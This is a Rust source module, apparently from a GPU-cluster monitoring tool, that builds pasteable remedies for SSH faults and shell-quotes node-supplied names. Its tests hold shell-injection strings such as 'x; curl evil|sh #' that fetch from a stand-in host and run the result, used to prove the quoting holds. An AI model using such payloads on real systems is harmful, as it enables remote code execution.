//! Remedies for faults, with the names of the node filled in.
//!
//! A remedy is one or more lines, of which one is enough; a line that begins with "and" belongs to the one
//! above it. A command follows the last colon of its line and can be pasted as it is; indented lines go into
//! a file. So text from a node never appears there, and names with shell metacharacters are quoted.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fs::File;
use std::io::Read;
use std::path::Path;

use crate::model::{self, FaultKind};
use crate::process::NotStarted;
use crate::ssh::{ConnectPhase, Fault, KeyFileProblem, Origin};
use crate::storage::user_dirs;
use crate::transport;
use crate::transport::{Reach, Target};

/// What remedies name: the node, its host, and its SSH options.
#[derive(Clone, Debug)]
pub(super) struct Advice {
    /// The node as gtop accepts it on the command line.
    node: String,
    /// The host name alone.
    host: String,
    /// The destination as arguments of ssh, such as `-p 2222 ada@gpu01`.
    destination: String,
    options: BTreeMap<&'static str, (Vec<String>, Option<String>)>,
}

/// A public key that was offered to the node.
struct PublicKey {
    file: String,
    kind: Option<String>,
}

/// Printed by nologin instead of a shell.
const NO_SHELL: &str = "account is currently not available";

/// Printed by sshd instead of the command's output while the password has expired.
const PASSWORD_EXPIRED: &str = "password has expired";

/// Printed by PAM on Linux for an expired account.
const ACCOUNT_EXPIRED: &str = "account has expired";

/// Most distributions call the unit `sshd`; Debian and Ubuntu call it `ssh`.
const RELOAD_SSHD: &str = "systemctl reload sshd || systemctl reload ssh";
const START_SSHD: &str = "systemctl start sshd || systemctl start ssh";

/// Maximum number of bytes read from a public key file; large certificates have a few thousand.
const MAX_KEY_BYTES: u64 = 16 * 1024;

/// Returns true if the node offers a login without a key.
fn offers_login_without_key(offers: &[String]) -> bool {
    offers.iter().any(|offer| offer == "password" || offer == "keyboard-interactive")
}

/// Returns true if an agent listens on `SSH_AUTH_SOCK`.
fn has_agent() -> bool {
    let socket = std::env::var_os("SSH_AUTH_SOCK");
    socket.is_some_and(|socket| std::os::unix::net::UnixStream::connect(socket).is_ok())
}

/// Quotes a word for a shell; a leading `~/` or `~user/` is still expanded.
pub(super) fn shell_quoted(word: &str) -> Cow<'_, str> {
    let is_plain =
        |text: &str| text.chars().all(|c| c.is_ascii_alphanumeric() || "._/~+-@:".contains(c));
    if !word.is_empty() && is_plain(word) {
        return word.into();
    }
    let quoted = |text: &str| format!("'{}'", text.replace('\'', r"'\''"));
    match word.split_once('/') {
        Some((home, rest)) if home.starts_with('~') && is_plain(home) => {
            format!("{home}/{}", quoted(rest)).into()
        }
        _ => quoted(word).into(),
    }
}

/// Quotes a path for a shell.
fn shell_quoted_path(file: &Path) -> String {
    shell_quoted(&file.to_string_lossy()).into_owned()
}

/// Returns true if a user name is safe in a command for the administrator, also behind `~`. The name may come
/// from the output of ssh, which a node can forge.
fn is_safe_user(name: &str) -> bool {
    let is_plain = name.chars().all(|c| c.is_ascii_alphanumeric() || "._-+@".contains(c));
    // A shell expands ~+, ~- and ~1 to other folders.
    let has_letter = name.contains(|c: char| c.is_ascii_alphabetic());
    is_plain && has_letter && name.len() <= 255 && !name.starts_with(['-', '+'])
}

/// Returns the signature algorithm for a type of key: never SHA-1.
fn signature_algorithm(kind: &str) -> &str {
    if kind == "ssh-rsa" { "rsa-sha2-512" } else { kind }
}

/// Returns the arguments of ssh for a destination.
fn ssh_destination(user: Option<&str>, host: &str, port: Option<u16>) -> String {
    let port = port.map(|port| format!("-p {port} ")).unwrap_or_default();
    let user = user.map(|user| format!("{}@", shell_quoted(user))).unwrap_or_default();
    format!("{port}{user}{}", shell_quoted(host))
}

impl PublicKey {
    /// Reads a public key file, given its path or that of the private key.
    fn read(file: &str) -> Option<Self> {
        let file = format!("{}.pub", file.strip_suffix(".pub").unwrap_or(file));
        // Opening a pipe or a device may block.
        if !std::fs::metadata(&file).ok()?.is_file() {
            return None;
        }
        let mut text = String::new();
        File::open(&file).ok()?.take(MAX_KEY_BYTES).read_to_string(&mut text).ok()?;
        let is_key_type = |word: &&str| {
            word.chars().all(|c| c.is_ascii_alphanumeric() || "-@.".contains(c)) && word.len() <= 64
        };
        let kind = text.split_whitespace().next().filter(is_key_type).map(ToOwned::to_owned);
        Some(Self { file, kind })
    }
}

impl Advice {
    pub(super) fn for_target(target: &Target) -> Self {
        let node = target.name.host().to_owned();
        match &target.reach {
            Reach::Ssh(ssh) => Self {
                node,
                host: ssh.host.clone(),
                destination: ssh_destination(ssh.user.as_deref(), &ssh.host, ssh.port),
                options: BTreeMap::new(),
            },
            Reach::Local => Self::for_name("this machine"),
        }
    }

    fn for_name(name: &str) -> Self {
        Self {
            node: name.to_owned(),
            host: name.to_owned(),
            destination: name.to_owned(),
            options: BTreeMap::new(),
        }
    }

    /// Returns advice on a jump host, of which only the name is known.
    fn for_gateway(gateway: &str) -> Self {
        let name = gateway.trim_start_matches("ssh://");
        let (user, name) =
            name.rsplit_once('@').map_or((None, name), |(user, name)| (Some(user), name));
        let (host, port) = match name.rsplit_once(':').map(|(host, port)| (host, port.parse())) {
            // More colons mean an IPv6 address without a port.
            Some((host, Ok(port))) if !host.contains(':') || host.ends_with(']') => {
                (host, Some(port))
            }
            _ => (name, None),
        };
        let host = host.trim_start_matches('[').trim_end_matches(']');
        let destination = ssh_destination(user, host, port);
        Self { host: host.to_owned(), destination, ..Self::for_name(gateway) }
    }

    /// Records an option in effect, and the file and line that set it.
    pub(super) fn set_option(
        &mut self,
        name: &'static str,
        values: &[String],
        origin: Option<&Origin>,
    ) {
        self.options.insert(name, (values.to_vec(), origin.map(ToString::to_string)));
    }

    fn values(&self, name: &str) -> &[String] {
        self.options.get(name).map_or(&[], |(values, _)| values)
    }

    fn value(&self, name: &str) -> &str {
        self.values(name).first().map_or("", String::as_str)
    }

    /// Returns the login user if it is safe in a command. The configured user is reliable; the one in an
    /// error may have been forged by a node. Without a user the command would be about root, who runs it.
    fn user<'a>(&'a self, user_of_fault: &'a str) -> Option<&'a str> {
        let configured = self.value("User");
        let user = if configured.is_empty() { user_of_fault } else { configured };
        is_safe_user(user).then_some(user)
    }

    /// Returns where to change an option: the line that sets it, or the file to add it to.
    fn correct_option(&self, name: &str) -> String {
        match self.options.get(name).and_then(|(_, origin)| origin.as_deref()) {
            Some(origin) => format!("correct {name} in {origin}"),
            None => format!("set {name} for {} in ~/.ssh/config", self.host),
        }
    }

    /// Returns what to add to `~/.ssh/config`, where the first value counts. The final `Host *` ends the
    /// section of the node.
    fn ssh_config(&self, then: &str, lines: &[&str]) -> String {
        let lines = lines.join("\n      ");
        format!(
            "add at the top of ~/.ssh/config{then}:\n    Host {}\n      {lines}\n    Host *",
            self.host
        )
    }

    /// Returns what an administrator adds to `sshd_config`, where the first value counts.
    fn sshd_config(&self, line: &str) -> String {
        self.as_root(&format!(
            "add at the top of /etc/ssh/sshd_config, outside any Match block, then run {RELOAD_SSHD}:\n    {line}"
        ))
    }

    /// Returns how an administrator allows logins with keys.
    fn allow_keys(&self) -> String {
        self.sshd_config("PubkeyAuthentication yes")
    }

    fn as_root(&self, what: &str) -> String {
        format!("as root on {}: {what}", self.host)
    }

    /// Returns the `ssh-copy-id` command.
    fn copy_id(&self) -> String {
        // The defaults are several files, and which of them exist is not known here.
        let file = if self.options.get("IdentityFile").is_some_and(|(_, origin)| origin.is_some()) {
            format!("-i {} ", shell_quoted(self.value("IdentityFile")))
        } else {
            String::new()
        };
        format!("ssh-copy-id {file}{}", self.destination)
    }

    /// Returns what to ask of the administrator if the key cannot be installed by logging in.
    fn add_key(&self, key: &str, user: &str) -> String {
        let location = match self.user(user) {
            Some(user) => format!("~{user}/.ssh/authorized_keys"),
            None => "the authorized_keys of your account".to_owned(),
        };
        format!("ask the administrator to add {key} to {location} on {}", self.host)
    }

    /// Returns how to create a key and install it, by password login or by the administrator.
    fn new_key(&self, user: &str, offers: &[String]) -> String {
        let keygen = "ssh-keygen -t ed25519";
        if offers_login_without_key(offers) {
            return format!(
                "create a key and install it on the node: {keygen} && {}",
                self.copy_id()
            );
        }
        format!("{}, after creating it with: {keygen}", self.add_key("~/.ssh/id_ed25519.pub", user))
    }

    /// Returns the public key of the first configured file that was tried. Other entries of `tried` are free
    /// text, partly from the node.
    fn public_key(&self, tried: &[String]) -> Option<PublicKey> {
        let home = user_dirs::home().unwrap_or_default();
        let files = self.values("IdentityFile").iter().map(|file| match file.strip_prefix("~/") {
            Some(rest) => home.join(rest).display().to_string(),
            None => file.clone(),
        });
        let files: Vec<String> = files.filter(|file| file.starts_with('/')).collect();
        tried
            .iter()
            .map(|what| what.trim_end_matches(" in the agent"))
            .filter(|what| files.iter().any(|file| file == what))
            .find_map(PublicKey::read)
    }

    /// Returns what to do about a refused key; the reason is only in the log of sshd.
    fn authorize_key(&self, user: &str, offers: &[String], tried: &[String]) -> String {
        let key = self.public_key(tried);
        let install = if offers_login_without_key(offers) {
            format!("install your key on the node: {}", self.copy_id())
        } else {
            self.add_key(key.as_ref().map_or("your public key", |key| &key.file), user)
        };
        let mut remedy = format!("{install}\nor {}", self.correct_option("User"));
        let accept_algorithm = key.and_then(|key| key.kind).map(|kind| {
            let kind = signature_algorithm(&kind);
            self.as_root(&format!(
                "add {kind} to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: {RELOAD_SSHD}"
            ))
        });
        // Run as the user, because the user's folder may contain links to anywhere.
        let fix_modes = self.user(user).map(|user| {
            self.as_root(&format!(
                "runuser -u {user} -- chmod go-w ~{user} ~{user}/.ssh ~{user}/.ssh/authorized_keys"
            ))
        });
        for (logged, action) in [
            ("not in PubkeyAcceptedAlgorithms", accept_algorithm),
            ("bad ownership or modes", fix_modes),
            ("because shell", self.set_shell(user)),
        ] {
            remedy
                .extend(action.map(|action| format!("\nif its sshd logs \"{logged}\", {action}")));
        }
        remedy
    }

    pub(super) fn for_transport_fault(&self, fault: &transport::Fault) -> String {
        match fault {
            transport::Fault::Ssh(fault) => self.for_ssh_fault(fault),
            transport::Fault::ExecFailed { .. } => {
                "run the command by hand; it must pass standard input to a shell on the node, \
                 or take the command line to run as {command}"
                    .to_owned()
            }
            transport::Fault::SlurmStep { cause, .. } => cause.facts().remedy.to_owned(),
        }
    }

    #[expect(clippy::too_many_lines, reason = "a line or two for each fault")]
    fn for_ssh_fault(&self, fault: &Fault) -> String {
        let Self { destination, .. } = self;
        let node = shell_quoted(&self.node);
        let (address, port) = (self.address(), self.port());
        match fault {
            Fault::NameNotFound { host, .. } => format!(
                "check the spelling (getent hosts {}), or {}",
                shell_quoted(host.as_deref().unwrap_or(&self.host)),
                self.correct_option("HostName")
            ),
            Fault::Unreachable { .. } => {
                format!("check that it is up (ping {address}) and reachable from this network")
            }
            Fault::TooManyOpenFiles => FaultKind::FileLimit.remedy().to_owned(),
            Fault::ConnectionRefused { port } => {
                let (start, correct) = (self.as_root(START_SSHD), self.correct_option("Port"));
                format!("{start}\nor {correct} if it is not {port}")
            }
            Fault::TimedOut { phase: step, .. } => self.for_timeout(*step),
            Fault::NoBanner { .. } => format!(
                "no SSH server listens on the port, or it refuses new connections; if the port is wrong, {}",
                self.correct_option("Port")
            ),
            Fault::NoCommonAlgorithm { kind, .. } => {
                let option = match *kind {
                    "host key" => "HostKeyAlgorithms",
                    "cipher" => "Ciphers",
                    "MAC" => "MACs",
                    _ => "KexAlgorithms",
                };
                match self.options.get(option) {
                    Some((_, Some(origin))) => {
                        format!("correct {option} in {origin}, or in the node's sshd_config")
                    }
                    _ => format!(
                        "add an algorithm that gtop supports to {option} in the node's sshd_config\nor {}",
                        self.use_ssh_program()
                    ),
                }
            }
            Fault::HostKeyUnknown { .. } => {
                format!("compare the fingerprint with the administrator's, then: gtop trust {node}")
            }
            Fault::HostCertificateRefused { .. } => format!(
                "have the certificate renewed, or compare the fingerprint, then: gtop trust {node}"
            ),
            Fault::HostKeyChanged(change) => format!(
                "ask the administrator; if the node was reinstalled: ssh-keygen -f {} -R {} && gtop trust {node}",
                shell_quoted_path(&change.at.file),
                shell_quoted(&change.host),
            ),
            Fault::HostKeyRevoked { at, .. } => {
                format!("do not connect; the node needs a new host key, unless {at} is wrong")
            }
            Fault::AuthenticationRefused { user, offers, .. } if fault.had_no_key() => {
                self.new_key(user, offers)
            }
            Fault::AuthenticationRefused { user, offers, tried }
                if offers.iter().any(|offer| offer == "publickey") =>
            {
                self.authorize_key(user, offers, tried)
            }
            Fault::AuthenticationRefused { .. } => {
                format!("{}\nor {}", self.allow_keys(), self.open_master())
            }
            Fault::TooManyKeys { .. } => {
                let then = ", with the key that the node accepts as FILE (FILE.pub for a key in the agent)";
                self.ssh_config(then, &["IdentityFile FILE", "IdentitiesOnly yes"])
            }
            Fault::MoreAuthenticationRequired { .. } => self.open_master(),
            Fault::PasswordOnly { .. } => format!(
                "{}\nand install your key on the node: {}\nor {}",
                self.allow_keys(),
                self.copy_id(),
                self.open_master()
            ),
            Fault::PromptUnanswered { .. } => format!(
                "log in with a key, or answer from a terminal: gtop doctor {node}\nor {}",
                self.open_master()
            ),
            Fault::KeyUnusable { file, problem: KeyFileProblem::Unprotected, .. } => {
                format!("chmod 600 {}", shell_quoted_path(file))
            }
            Fault::KeyUnusable { problem: KeyFileProblem::AlgorithmExcluded(kind), .. } => {
                let kind = signature_algorithm(kind);
                self.ssh_config("", &[&format!("PubkeyAcceptedAlgorithms +{kind}")])
            }
            Fault::KeyEncrypted { file } => {
                let agent = if has_agent() { "" } else { "eval $(ssh-agent) && " };
                let file = shell_quoted_path(file);
                format!("start gtop from a terminal, or load the key: {agent}ssh-add {file}")
            }
            Fault::AgentUnreachable { .. } => {
                "start an agent and add your key FILE: eval $(ssh-agent) && ssh-add FILE".to_owned()
            }
            Fault::ChannelRefused { .. } => {
                format!("close other sessions\nor {}", self.sshd_config("MaxSessions 100"))
            }
            Fault::CommandRefused => {
                "ask the administrator to let this account run commands".to_owned()
            }
            Fault::NeedsSshProgram { .. } | Fault::UnsupportedAlgorithms { .. } => {
                self.use_ssh_program()
            }
            Fault::AtGateway { gateway, fault } => Self::for_gateway(gateway).for_ssh_fault(fault),
            Fault::GatewayCannotReach { gateway, .. } => format!(
                "check from the gateway whether the node answers: ssh {} nc -zv {address} {port}",
                Self::for_gateway(gateway).destination,
            ),
            Fault::GatewayForwardingRefused { gateway, .. } => format!(
                "{}\nand add {address}:{port} to PermitOpen if it is set",
                Self::for_gateway(gateway).sshd_config("AllowTcpForwarding yes"),
            ),
            Fault::ProxyCommandFailed { .. } => {
                format!("run it by hand, and {}", self.correct_option("ProxyCommand"))
            }
            Fault::SshProgram { .. } | Fault::ConnectionLost { .. } | Fault::SessionLost { .. } => {
                format!("try by hand: ssh -v {destination} true")
            }
            Fault::AccountRefused { user, message: says } if says.contains(ACCOUNT_EXPIRED) => {
                match self.user(user) {
                    Some(user) => self.as_root(&format!("chage -E -1 {user}")),
                    None => "ask the administrator of the node to extend the account".to_owned(),
                }
            }
            Fault::AccountRefused { .. } => format!(
                "ask the administrator of the node about this message\nif it comes from a nologin file that is out of date, {}",
                self.as_root("rm -f /etc/nologin /run/nologin")
            ),
            Fault::JobRequired { .. } => format!(
                "submit a job to this node: salloc -w {}\nif one of your jobs runs there: gtop --slurm --transport srun",
                shell_quoted(&self.host)
            ),
            Fault::BadConfiguration { .. } => {
                format!("correct it, then check it with: ssh -G {destination}")
            }
            Fault::ProgramNotFound(NotStarted { program, .. }) => format!(
                "install {program}, or specify another one (--ssh-binary=PROGRAM, --exec 'PROGRAM …')"
            ),
        }
    }

    fn for_timeout(&self, step: ConnectPhase) -> String {
        let (destination, address, port) = (&self.destination, self.address(), self.port());
        match step {
            ConnectPhase::Configuration => {
                format!("check whether ssh -G {destination} hangs, for example in a Match exec")
            }
            ConnectPhase::Name => format!("name resolution hangs: getent hosts {address}"),
            ConnectPhase::Connection => format!(
                "check that it is up (ping {address}) and that no firewall drops port {port}; or raise --connect-timeout",
            ),
            ConnectPhase::BannerExchange => format!(
                "check sshd on the node, which accepts connections but sends nothing; if it is not sshd, {}",
                self.correct_option("Port")
            ),
            ConnectPhase::KeyExchange => {
                "the node may be overloaded, or the network drops large packets (MTU)".to_owned()
            }
            ConnectPhase::Login => {
                "the directory service of the node may hang; check the log of its sshd".to_owned()
            }
            ConnectPhase::Command => {
                "the node may be overloaded, or its file system hangs".to_owned()
            }
        }
    }

    fn use_ssh_program(&self) -> String {
        format!("use the ssh program: gtop --transport ssh {}", shell_quoted(&self.node))
    }

    fn set_shell(&self, user: &str) -> Option<String> {
        Some(self.as_root(&format!("usermod -s /bin/sh {}", self.user(user)?)))
    }

    /// Returns how to open a master connection, which gtop then shares.
    fn open_master(&self) -> String {
        let destination = &self.destination;
        if self.value("ControlPath").is_empty() {
            return self.ssh_config(
                &format!(", then run ssh -fNM {destination}"),
                &["ControlPath ~/.ssh/%C"],
            );
        }
        format!("open a master connection: ssh -fNM {destination}")
    }

    fn address(&self) -> Cow<'_, str> {
        let host = self.value("HostName");
        shell_quoted(if host.is_empty() { &self.host } else { host })
    }

    fn port(&self) -> &str {
        let port = self.value("Port");
        if port.is_empty() { "22" } else { port }
    }

    /// Returns the remedy for a fault on the node itself; `has_noise` if its login files print something.
    pub(super) fn for_node_fault(&self, fault: &model::Fault, has_noise: bool) -> String {
        let Self { node, destination, .. } = self;
        let is_without_interpreter = fault.kind == FaultKind::NoInterpreter;
        let is_explained = is_without_interpreter || fault.kind == FaultKind::TimedOut;
        // An expired account or password is the cause, whatever else the login files print.
        if is_without_interpreter && fault.detail.contains(NO_SHELL) {
            let ask = || "ask the administrator for a login shell on the node".to_owned();
            self.set_shell("").unwrap_or_else(ask)
        } else if is_without_interpreter && fault.detail.contains(PASSWORD_EXPIRED) {
            format!("log in and set a new password: ssh -t {destination}")
        } else if is_explained && !fault.node_remedy.is_empty() {
            fault.remedy().replace("HOST", destination)
        } else if is_without_interpreter && has_noise {
            format!(
                "another program runs instead of gtop's command: a login file that exits or starts a program \
                 (~/.bashrc, ~/.profile: restrict that to interactive shells), or a forced command; \
                 try: ssh {destination} /bin/sh -c true"
            )
        } else if is_without_interpreter {
            let set_shell = self.set_shell("");
            let set_shell =
                set_shell.map(|what| format!("\nif the login shell is /bin/false, {what}"));
            format!(
                "the login shell must run /bin/sh; look for exit or exec in ~/.bashrc and for a forced \
                 command, and try: ssh {destination} /bin/sh -c true{}",
                set_shell.unwrap_or_default()
            )
        } else if fault.kind == FaultKind::HostKeyUnknown {
            fault.kind.remedy().replace("HOST", &shell_quoted(node))
        } else {
            fault.kind.remedy().replace("HOST", destination)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::NodeName;
    use crate::ssh::{Profile, SshTarget};

    /// A shell injection, if the text were pasted.
    const HOSTILE: &str = "x; curl evil|sh #";

    fn advice(
        node: &str,
        user: Option<&str>,
        port: Option<u16>,
        configured: Option<&str>,
    ) -> Advice {
        let ssh = SshTarget {
            host: "gpu11".to_owned(),
            user: user.map(ToOwned::to_owned),
            port,
            profile: Profile::System,
        };
        let target = Target { name: NodeName::new(node).unwrap(), reach: Reach::Ssh(ssh) };
        let mut advice = Advice::for_target(&target);
        if let Some(user) = configured {
            advice.set_option("User", &[user.to_owned()], None);
        }
        advice
    }

    fn refused(user: &str, tried: &[&str]) -> Fault {
        let tried = tried.iter().map(|&what| what.to_owned()).collect();
        Fault::AuthenticationRefused {
            user: user.to_owned(),
            offers: vec!["publickey".to_owned()],
            tried,
        }
    }

    #[test]
    fn commands_never_apply_to_the_account_of_the_administrator() {
        let faults = |user: &str| {
            let says = "Your account has expired".to_owned();
            [refused(user, &["id"]), Fault::AccountRefused { user: user.to_owned(), message: says }]
        };
        let without_user = advice("gpu11", None, None, None);
        let with_user = advice("gpu11", None, None, Some("ada"));
        for unsafe_user in ["", HOSTILE, "-a", "ada bob", "$(id)", "~", "a/../b", "a:b", "1"] {
            for fault in faults(unsafe_user) {
                let at_gateway = Fault::AtGateway {
                    gateway: "bastion".to_owned(),
                    fault: Box::new(fault.clone()),
                };
                for text in
                    [without_user.for_ssh_fault(&fault), with_user.for_ssh_fault(&at_gateway)]
                {
                    for word in
                        ["as root", "~/.ssh/authorized_keys", "usermod", "go-w", "chage", "curl"]
                    {
                        assert!(!text.contains(word), "{word} in {text}");
                    }
                    assert!(text.contains("ask the administrator"), "{text}");
                }
            }
        }
        for fault in faults("ada") {
            let at_gateway =
                Fault::AtGateway { gateway: "bastion".to_owned(), fault: Box::new(fault.clone()) };
            let text = without_user.for_ssh_fault(&at_gateway);
            assert!(text.contains("as root on bastion: ") && text.contains(" ada"), "{text}");
        }
        let text = with_user.for_ssh_fault(&refused("eve", &["id"]));
        assert!(text.contains("usermod -s /bin/sh ada") && !text.contains("eve"), "{text}");
        let open = "runuser -u ada -- chmod go-w ~ada ~ada/.ssh ~ada/.ssh/authorized_keys";
        assert!(text.contains(&format!("\", as root on gpu11: {open}")), "{text}");
        let fault = model::Fault::new(FaultKind::NoInterpreter, NO_SHELL);
        assert!(!without_user.for_node_fault(&fault, false).contains("usermod"));
        assert!(with_user.for_node_fault(&fault, false).ends_with(": usermod -s /bin/sh ada"));
        let fault = model::Fault::new(FaultKind::NoInterpreter, "");
        assert!(!without_user.for_node_fault(&fault, false).contains("usermod"));
    }

    #[test]
    fn only_a_configured_file_is_named_as_the_key() {
        let folder = tempfile::tempdir().unwrap();
        let file = |name: &str| folder.path().join(name).display().to_string();
        std::fs::write(file("id.pub"), "ssh-rsa AAAA ada\n").unwrap();
        std::fs::write(file("other.pub"), "ssh-ed25519 AAAA eve\n").unwrap();
        std::fs::create_dir(file("odd.pub")).unwrap();
        let mut advice = advice("gpu11", None, None, Some("ada"));
        let files = [file("id"), file("odd"), file("none"), "id".to_owned()];
        advice.set_option("IdentityFile", &files, None);
        let add = |key: &str| {
            format!("ask the administrator to add {key} to ~ada/.ssh/authorized_keys on gpu11\n")
        };
        let forged = format!("until the node said: {HOSTILE}");
        for tried in [
            "the keys of the ssh program",
            "agent SHA256:abc",
            &forged,
            &format!("{} certificate 'x', expired", file("id")),
            &format!("not {} (encrypted)", file("id")),
            &file("other"),
            &file("odd"),
            &file("none"),
            "id",
        ] {
            let text = advice.for_ssh_fault(&refused("ada", &[tried]));
            assert!(text.starts_with(&add("your public key")), "{text}");
            assert!(!text.contains("curl") && !text.contains("to PubkeyAccepted"), "{text}");
        }
        for (files, tried) in [
            ([file("id")], file("id")),
            ([file("id")], format!("{} in the agent", file("id"))),
            ([file("id.pub")], file("id.pub")),
        ] {
            advice.set_option("IdentityFile", &files, None);
            let text =
                advice.for_ssh_fault(&refused("ada", &["the keys of the ssh program", &tried]));
            assert!(text.starts_with(&add(&file("id.pub"))), "{text}");
            // A site's own list of algorithms is kept, and SHA-1 stays off.
            let accept = "as root on gpu11: add rsa-sha2-512 to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: ";
            assert!(text.contains(&format!("{accept}{RELOAD_SSHD}\n")), "{text}");
        }
        std::fs::write(file("id.pub"), format!("{}\n", HOSTILE.replace(' ', ""))).unwrap();
        let text = advice.for_ssh_fault(&refused("ada", &[&file("id.pub")]));
        assert!(!text.contains("curl") && !text.contains("to PubkeyAccepted"), "{text}");
    }

    #[test]
    fn an_excluded_key_algorithm_is_never_allowed_with_sha1() {
        let flaw = KeyFileProblem::AlgorithmExcluded("ssh-rsa".to_owned());
        let fault = Fault::KeyUnusable { file: "/k".into(), problem: flaw, offers: Vec::new() };
        let text = advice("gpu11", None, None, None).for_ssh_fault(&fault);
        assert!(text.contains("\n      PubkeyAcceptedAlgorithms +rsa-sha2-512\n"), "{text}");
    }

    #[test]
    fn each_program_gets_the_node_in_its_own_syntax() {
        let advice = advice("ada@gpu11:2222", Some("ada"), Some(2222), Some("ada"));
        let text = || "x".to_owned();
        for (fault, expected) in [
            (Fault::JobRequired { message: text() }, "salloc -w gpu11\n"),
            (Fault::SessionLost { why: text() }, "ssh -v -p 2222 ada@gpu11 true"),
            (Fault::PasswordOnly { user: text() }, "ssh-copy-id -p 2222 ada@gpu11\n"),
            (Fault::PasswordOnly { user: text() }, "    Host gpu11\n"),
            (
                Fault::ChannelRefused { why: text() },
                "as root on gpu11: add at the top of /etc/ssh/sshd_config, outside any Match block, then run systemctl reload sshd || systemctl reload ssh:\n",
            ),
            (
                Fault::ConnectionRefused { port: 22 },
                "as root on gpu11: systemctl start sshd || systemctl start ssh\n",
            ),
            (Fault::NeedsSshProgram { options: text() }, "gtop --transport ssh ada@gpu11:2222"),
            (
                Fault::GatewayCannotReach { gateway: "eve@bastion:2200".to_owned(), why: text() },
                "ssh -p 2200 eve@bastion nc -zv gpu11 22",
            ),
            (
                Fault::GatewayForwardingRefused {
                    gateway: "ssh://eve@[fe80::1]:2200".to_owned(),
                    why: text(),
                },
                "as root on fe80::1: ",
            ),
        ] {
            let text = advice.for_ssh_fault(&fault);
            assert!(text.contains(expected), "{expected} in {text}");
        }
        for (kind, expected) in [
            (FaultKind::HostKeyUnknown, "gtop trust ada@gpu11:2222"),
            (FaultKind::BadReply, "ssh -p 2222 ada@gpu11 true"),
        ] {
            let text = advice.for_node_fault(&model::Fault::new(kind, ""), false);
            assert!(text.ends_with(expected), "{expected} in {text}");
        }
    }

    #[test]
    fn words_with_shell_metacharacters_are_quoted() {
        for (word, expected) in [
            ("/home/ada/.ssh/id_ed25519", "/home/ada/.ssh/id_ed25519"),
            ("/k/my key", "'/k/my key'"),
            ("~/.ssh/my key", "~/'.ssh/my key'"),
            ("~$(id)/x", "'~$(id)/x'"),
            ("it's", r"'it'\''s'"),
            ("gpu[01-02]", "'gpu[01-02]'"),
            ("", "''"),
        ] {
            assert_eq!(shell_quoted(word), expected);
        }
        let mut advice = advice("gpu11", None, None, None);
        let file = Path::new("/k/my $(id)");
        let open = Fault::KeyUnusable {
            file: file.into(),
            problem: KeyFileProblem::Unprotected,
            offers: Vec::new(),
        };
        assert_eq!(advice.for_ssh_fault(&open), "chmod 600 '/k/my $(id)'");
        let locked = advice.for_ssh_fault(&Fault::KeyEncrypted { file: file.into() });
        assert!(locked.ends_with("ssh-add '/k/my $(id)'"), "{locked}");
        let changed = Fault::HostKeyChanged(Box::new(crate::ssh::HostKeyChange {
            host: "'; curl evil".to_owned(),
            at: Origin { file: file.into(), line: 1 },
            known: String::new(),
            algorithm: String::new(),
            fingerprint: String::new(),
        }));
        let text = advice.for_ssh_fault(&changed);
        assert!(
            text.contains(r"ssh-keygen -f '/k/my $(id)' -R ''\''; curl evil' && gtop"),
            "{text}"
        );
        let origin = Origin { file: Path::new("/c").into(), line: 1 };
        advice.set_option("IdentityFile", &["~/.ssh/my key".to_owned()], Some(&origin));
        let text = advice.for_ssh_fault(&Fault::PasswordOnly { user: String::new() });
        assert!(text.contains("ssh-copy-id -i ~/'.ssh/my key' gpu11\n"), "{text}");
    }

    #[test]
    fn only_a_command_follows_a_colon() {
        let advice = advice("gpu11", None, None, None);
        let closed = Fault::NoBanner { port: 22, why: String::new(), is_closed: true };
        let after = std::time::Duration::from_secs(1);
        let silent = Fault::TimedOut { phase: ConnectPhase::BannerExchange, after };
        for fault in [closed, silent] {
            let text = advice.for_ssh_fault(&fault);
            assert!(!text.contains(": ") && text.contains("set Port for gpu11"), "{text}");
        }
    }
}
